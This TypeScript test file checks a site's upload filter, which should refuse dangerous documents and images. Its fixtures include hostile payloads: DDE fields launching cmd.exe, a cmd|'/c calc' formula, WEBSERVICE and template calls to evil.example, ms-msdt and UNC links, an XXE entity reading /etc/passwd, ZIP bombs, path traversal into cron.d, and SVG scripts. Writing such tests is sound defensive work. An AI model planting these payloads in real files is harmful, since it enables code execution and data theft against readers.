import { crc32, deflateSync } from 'node:zlib'
import { unzipSync } from 'fflate'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { createOle, createPdf, createXlsx, createZip, DEFAULT_TYPES } from '#testing/files/documents.ts'
import {
  docx,
  field,
  formula,
  linked,
  related,
  run,
  shape,
  twoSlides,
  withTypes,
  workbook,
} from '#testing/files/office-parts.ts'
import { createSite } from '#testing/site.ts'
import { createEditor, uploadAndIngest } from '#testing/uploads/uploads.ts'

const site = await createSite({ MAX_UPLOAD_MB: '5' })
const editor = await createEditor(site)
const take = (name: string, bytes: Uint8Array) => uploadAndIngest(site, editor, name, bytes)

const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex')
const ole = (text: string) => Buffer.concat([OLE, Buffer.alloc(504), Buffer.from(text, 'utf16le'), Buffer.alloc(512)])
const DOCUMENT = '<w:document><w:body/></w:document>'
const TYPES = `<Types>${DEFAULT_TYPES}<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
const partsOfDocx = { '[Content_Types].xml': TYPES, 'word/document.xml': DOCUMENT }
const withoutDocument = () => createZip({ '[Content_Types].xml': TYPES })
const createPptxWithMacros = () =>
  createZip({
    '[Content_Types].xml': TYPES.replace('wordprocessingml.document', 'presentationml.presentation'),
    'ppt/vbaProject.bin': 'x',
    'ppt/presentation.xml': '<p:presentation/>',
  })
/** An Office file without one of its parts. */
const without = (bytes: Uint8Array, part: string) => {
  const { [part]: removed, ...parts } = unzipSync(bytes)
  expect(removed).toBeDefined()
  return createZip(parts)
}
const svg = (inside: string) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`)
const pdf = await createPdf(['Guide'])
const ownedPdf = await createPdf(['x'], { ownerPassword: 'secret' })

/** The head of a PNG picture with this size, and too few pixels. */
function pngOf(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 6, 0, 0, 0], 8)
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(data.length)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, sum])
  }
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(100))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** A part that unpacks to 80 MB and says that it has 100 bytes. */
function bombOfDeclaredSize(): Uint8Array {
  const bytes = Buffer.from(docx({ 'word/media/a.bin': new Uint8Array(80 * 1024 ** 2) }))
  bytes.writeUInt32LE(100, bytes.lastIndexOf(Buffer.from('504b0102', 'hex')) + 24)
  return bytes
}

function withChangedByte(): Uint8Array {
  const bytes = Buffer.from(createZip({ ...partsOfDocx, 'word/media/a.jpg': Buffer.alloc(1000, 'abc') }))
  const at = bytes.indexOf('word/media/a.jpg') + 20
  bytes.writeUInt8(bytes.readUInt8(at) ^ 0x55, at)
  return bytes
}

type Attack = [string, string, Uint8Array, string]

const ATTACKS: Attack[] = [
  ['a program', 'setup.pdf', Buffer.from('MZ a program'), 'program'],
  ['a web page', 'page.pdf', Buffer.from('<!doctype html><script>1</script>'), 'web_page'],
  ['a ZIP archive of something else', 'a.docx', createZip({ 'a.txt': 'x' }), 'unknown_kind'],
  ['a Word file with a password', 'a.docx', createOle('EncryptedPackage'), 'encrypted'],
  ['a file of old Word with a password', 'a.doc', createOle('WordDocument', 0x0100), 'encrypted'],
  ['an old presentation with a password', 'a.ppt', createOle('EncryptedSummary'), 'encrypted'],
  ['a PDF with a password', 'a.pdf', await createPdf(['x'], { userPassword: 'secret' }), 'encrypted'],
  ['macros in a .docx', 'a.docx', docx({ 'word/vbaProject.bin': 'x' }), 'has_macros'],
  ['macros with another name', 'a.docx', docx({ 'word/media/image1.png': ole('_VBA_PROJECT') }), 'has_macros'],
  ['macros by their type', 'a.docx', withTypes('application/vnd.ms-office.vbaProject'), 'has_macros'],
  ['macros by their relation', 'a.docx', related('vbaProject', 'x.bin', ''), 'has_macros'],
  ['a sheet of Excel macros', 'a.xlsx', createXlsx(['A'], { 'xl/macrosheets/sheet1.xml': '<x/>' }), 'has_macros'],
  [
    'macros in the table of a chart',
    'a.docx',
    docx({ 'word/embeddings/t.xlsx': createXlsx(['A'], { 'xl/vbaProject.bin': 'x' }) }),
    'has_macros',
  ],
  ['an ActiveX control', 'a.docx', docx({ 'word/activeX/activeX1.xml': '<x/>' }), 'has_active_content'],
  ['an ActiveX control by its relation', 'a.docx', related('control', 'x.xml', ''), 'has_active_content'],
  ['an OLE object', 'a.docx', docx({ 'word/embeddings/oleObject1.bin': ole('Package') }), 'has_embedded_objects'],
  ['an OLE object as a picture', 'a.docx', docx({ 'word/media/image1.png': ole('x') }), 'has_embedded_objects'],
  ['a program inside', 'a.docx', docx({ 'word/embeddings/setup.exe': 'MZ' }), 'has_embedded_objects'],
  ['a web page inside', 'a.docx', related('aFChunk', 'page.html', ''), 'inserted_document'],
  ['a template elsewhere', 'a.docx', related('attachedTemplate', 'https://evil.example/t.dotm'), 'external_template'],
  ['a picture elsewhere', 'a.docx', related('image', 'https://evil.example/a.png'), 'external_content'],
  ['a network path that claims to be inside', 'a.docx', related('image', '\\\\evil\\a.png', ''), 'external_content'],
  ['a field that starts a program', 'a.docx', field('word/header1.xml', 'DDE', 'AUTO cmd'), 'unknown_field'],
  ['a field in a field name', 'a.docx', field('word/header1.xml', '{QUOTE 68 68 69', ' cmd'), 'unknown_field'],
  ['a field inside a field', 'a.docx', field('word/header1.xml', 'IF ', '{DDE cmd topic', ' = 1'), 'unknown_field'],
  ['a field in the building blocks', 'a.docx', field('word/glossary/document.xml', 'DDEAUTO cmd.exe'), 'unknown_field'],
  ['a field in a comment', 'a.docx', field('word/comments.xml', 'DATABASE \\d "\\\\evil\\a.mdb"'), 'unknown_field'],
  ...[
    'INCLUDEPICTURE "http://evil.example/x.png" \\d',
    'IMPORT x',
    'INCLUDE "http://x"',
    'LINK Excel.Sheet.12',
    'RD x',
  ].map(
    (code): Attack => [`the field ${code.split(' ')[0]}`, 'a.docx', field('word/document.xml', code), 'unknown_field'],
  ),
  [
    'a simple field',
    'a.docx',
    docx({ 'word/footer1.xml': '<x:ftr><x:fldSimple x:instr=" INCLUDETEXT &quot;c:/x&quot; "/></x:ftr>' }),
    'unknown_field',
  ],
  ...['file:///\\\\evil\\share\\x.exe', 'ms-msdt:/id x', 'javascript:alert(1)', '\\\\evil\\x', 'setup.exe'].map(
    (target): Attack => [`a link to ${target}`, 'a.docx', linked(target), 'unsafe_link'],
  ),
  ['a link in a field', 'a.docx', field('word/header1.xml', 'HYPERLINK \\o "tip" "file:///c:/x"'), 'unsafe_link'],
  ['a link that a field computes', 'a.docx', field('word/header1.xml', 'HYPERLINK ', '{QUOTE x'), 'unsafe_link'],
  ['a link in a drawing', 'a.docx', docx({ 'word/d.xml': '<xml><v:shape href="file:///c:/x"/></xml>' }), 'unsafe_link'],
  ['a shape that starts a program', 'a.pptx', shape('program'), 'unsafe_link'],
  ['a picture in a drawing', 'a.docx', docx({ 'word/d.xml': '<v:imagedata src="//evil/a"/>' }), 'external_content'],
  [
    'a link of DDE',
    'a.xlsx',
    workbook('xl/externalLinks/externalLink1.xml', 'externalLink', '<externalLink><ddeLink/></externalLink>'),
    'data_connection',
  ],
  ['a connection', 'a.xlsx', workbook('xl/connections.xml', 'connections', '<connections/>'), 'data_connection'],
  ['a query table', 'a.xlsx', workbook('xl/queryTables/q.xml', 'queryTable', '<queryTable/>'), 'data_connection'],
  ['a connection by its relation', 'a.docx', related('connections', 'x.xml', ''), 'data_connection'],
  [
    'letters to a list',
    'a.docx',
    docx({ 'word/settings.xml': '<w:settings><w:mailMerge/></w:settings>' }),
    'data_connection',
  ],
  ...['cmd|&apos;/c calc&apos;!A0', '_xlfn.WEBSERVICE("http://evil.example")', 'DDE("a","b","c")'].map(
    (text): Attack => [`the formula ${text}`, 'a.xlsx', formula(text), 'data_connection'],
  ),
  ['a link in a formula', 'a.xlsx', formula('HYPERLINK("file:///c:/x","Budget")'), 'unsafe_link'],
  ['a part of a type that nobody knows', 'a.docx', withTypes('application/x-new'), 'unknown_part'],
  ['a relation that nobody knows', 'a.docx', related('newThing', 'x.xml', ''), 'unknown_part'],
  ['a part without a type', 'a.docx', docx({ 'word/x.new': 'x' }), 'unknown_part'],
  [
    '200,000 elements in each other',
    'a.docx',
    docx({ 'word/header1.xml': `${'<w:p>'.repeat(200_000)}${'</w:p>'.repeat(200_000)}` }),
    'too_complex',
  ],
  ['a video', 'a.bin', Buffer.from('\0\0\0\x18ftypmp42', 'latin1'), 'video'],
  ['a photo of a phone', 'a.heic', Buffer.from('\0\0\0\x18ftypheic', 'latin1'), 'photo_kind'],
  ['half a Word file', 'a.docx', docx().subarray(0, 300), 'damaged'],
  ['a Word file without its document', 'a.docx', withoutDocument(), 'damaged'],
  ['a workbook without its sheets', 'a.xlsx', without(createXlsx(['A', 'B']), 'xl/worksheets/sheet2.xml'), 'damaged'],
  ['a workbook without relations', 'a.xlsx', without(createXlsx(['A']), 'xl/_rels/workbook.xml.rels'), 'damaged'],
  ['a presentation without a slide', 'a.pptx', without(twoSlides, 'ppt/slides/slide2.xml'), 'damaged'],
  ['a changed byte', 'a.docx', withChangedByte(), 'damaged'],
  ['half a PDF', 'a.pdf', pdf.subarray(0, 200), 'damaged'],
  ['half a picture', 'a.png', pngOf(100, 100), 'damaged'],
  ['a path in a ZIP archive', 'a.docx', docx({ '../../etc/cron.d/x': 'x' }), 'damaged'],
  ['a part twice', 'a.docx', docx({ 'word/Document.xml': '<w:document/>' }), 'damaged'],
  ['a ZIP bomb', 'a.docx', docx({ 'word/media/a.bin': new Uint8Array(80 * 1024 ** 2) }), 'unpacks_too_large'],
  ['a ZIP bomb that declares another size', 'a.docx', bombOfDeclaredSize(), 'damaged'],
  [
    'XML entities',
    'a.docx',
    docx({ 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a "aaa"><!ENTITY b "&a;&a;">]><x>&b;</x>' }),
    'has_entities',
  ],
  [
    'XML entities in UTF-16',
    'a.docx',
    docx({
      'word/styles.xml': Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x/>', 'utf16le'),
    }),
    'has_entities',
  ],
  [
    'XML entities after much space',
    'a.docx',
    docx({ 'word/styles.xml': `${' '.repeat(9000)}<!DOCTYPE x><x/>` }),
    'damaged',
  ],
  ['a program in front of a PDF', 'a.pdf', Buffer.concat([Buffer.from('MZ'), pdf]), 'two_kinds'],
  ['a PDF with an archive behind it', 'a.pdf', Buffer.concat([pdf, docx()]), 'two_kinds'],
  ['a Word file with a PDF in it', 'a.docx', createZip({ '%PDF-1.7': 'x', ...partsOfDocx }), 'two_kinds'],
  ['a picture of 60,000 pixels a side', 'a.png', pngOf(60_000, 60_000), 'too_many_pixels'],
  ['a drawing with a script', 'a.svg', svg('<script>alert(1)</script>'), 'unsafe_svg'],
  ['a drawing that loads a picture', 'a.svg', svg('<image href="https://evil.example/a.png"/>'), 'unsafe_svg'],
]

test.each(ATTACKS)('%s is refused', async (_, name, bytes, code) => {
  const { state, error, file } = await take(name, bytes)
  expect({ state, code: error?.code, file }).toEqual({ state: 'refused', code, file: null })
  expect(error?.message).toMatch(/^Refused: .+\. [A-Z].+\.$/)
})

test('a refusal names the cause, the one thing to do, and why', async () => {
  const { error } = await take('Slides.pptx', createPptxWithMacros())
  expect(error).toEqual({
    code: 'has_macros',
    message: 'Refused: has macros. Save it as .pptx without macros, then add it again.',
    why: 'Macros are programs inside a document. They can harm the devices of readers.',
  })
})

describe('accepted', () => {
  test.each<[string, string, Uint8Array, string]>([
    ['a link', 'a.docx', related('hyperlink', 'https://www.who.int/'), 'a.docx'],
    ['a link to a place in the document', 'a.docx', related('hyperlink', '#there'), 'a.docx'],
    ['fields of Word', 'a.docx', field('word/header1.xml', ' PAGE \\* MERGEFORMAT ', '{=SUM(ABOVE)'), 'a.docx'],
    ['a link in a field', 'a.docx', field('word/header1.xml', 'HYPER', 'LINK "https://x.org/" \\l "a"'), 'a.docx'],
    ['formulas', 'a.xlsx', formula('IF(A1="a|b",HYPERLINK("https://x.org"),Table1[Yes|No])'), 'a.xlsx'],
    ['a shape that leads to a slide', 'a.pptx', shape('hlinksldjump'), 'a.pptx'],
    ['a folder in the archive', 'a.docx', docx({ 'word/media/': '' }), 'a.docx'],
    ['spaces and zeros after the archive', 'a.docx', Buffer.concat([docx(), Buffer.from('\r\n\0\0')]), 'a.docx'],
    ['the table of a chart', 'a.docx', docx({ 'word/embeddings/t.xlsx': createXlsx(['A']) }), 'a.docx'],
    ['a PDF with an owner password', 'a.pdf', ownedPdf, 'a.pdf'],
    ['a PDF that is named .docx gets its own ending', 'Plan.docx', pdf, 'Plan.pdf'],
    ['a name with a version keeps it', 'Plan v1.2', pdf, 'Plan v1.2.pdf'],
    ['a simple drawing', 'a.svg', svg('<circle r="4"/>'), 'a.svg'],
  ])('%s', async (_, name, bytes, stored) => {
    expect(await take(name, bytes)).toMatchObject({ state: 'ready', error: null, file: { name: stored } })
  })
})

test('spaces and zeros after the end of an Office file are not stored', async () => {
  const { file } = await take('a.docx', Buffer.concat([docx(), Buffer.alloc(5000, '\r\n\0')]))
  expect(file?.size_bytes).toBe(docx().length)
})

test('a refusal says where the cause is', async () => {
  const slide = await take('a.pptx', shape('program'))
  expect(slide.error?.message).toContain('Refused: has a link to ppaction://program (slide 2). ')
  const sheet = await take('a.xlsx', formula('WEBSERVICE("http://evil.example")'))
  expect(sheet.error?.message).toContain('Refused: takes data from elsewhere: WEBSERVICE (sheet "Budget"). ')
  const page = await take(
    'a.docx',
    docx({ 'word/document.xml': `<w:document><w:p><w:lastRenderedPageBreak/></w:p>${run('DDE x')}</w:document>` }),
  )
  expect(page.error?.message).toContain('Refused: has the field DDE, which is not allowed (page 2). ')
  const header = await take('a.docx', field('word/header1.xml', 'DDE x'))
  expect(header.error?.message).toContain('not allowed (the header). ')
})

test('the pages of Word, slides, sheets and pages of a PDF are counted by content', async () => {
  const word = docx({ 'docProps/app.xml': '<Properties><Pages>3</Pages></Properties>' })
  const files = [
    await take('a.docx', word),
    await take('b.pptx', twoSlides),
    await take('c.xlsx', createXlsx(['A', 'B', 'C', 'D'])),
    await take('d.pdf', await createPdf(['1', '2', '3', '4', '5'])),
  ]
  expect(files.map(({ file }) => file?.pages)).toEqual([3, 2, 4, 5])
})

test('a picture is stored without the place where it was taken, and smaller when it is very large', async () => {
  const photo = await sharp({ create: { width: 3600, height: 1200, channels: 3, background: '#369' } })
    .jpeg()
    .withExif({ IFD0: { Artist: 'Amina Nakato' }, IFD3: { GPSLatitude: '0/1 20/1 0/1' } })
    .toBuffer()
  expect((await sharp(photo).metadata()).exif).toBeDefined()
  const { file } = await take('Clinic.jpg', photo)
  const stored = (await site.app.inject(file?.url ?? '')).rawPayload
  expect(await sharp(stored).metadata()).toMatchObject({ format: 'jpeg', width: 3000, height: 1000 })
  expect((await sharp(stored).metadata()).exif).toBeUndefined()
  expect(stored.includes('Amina')).toBe(false)
})
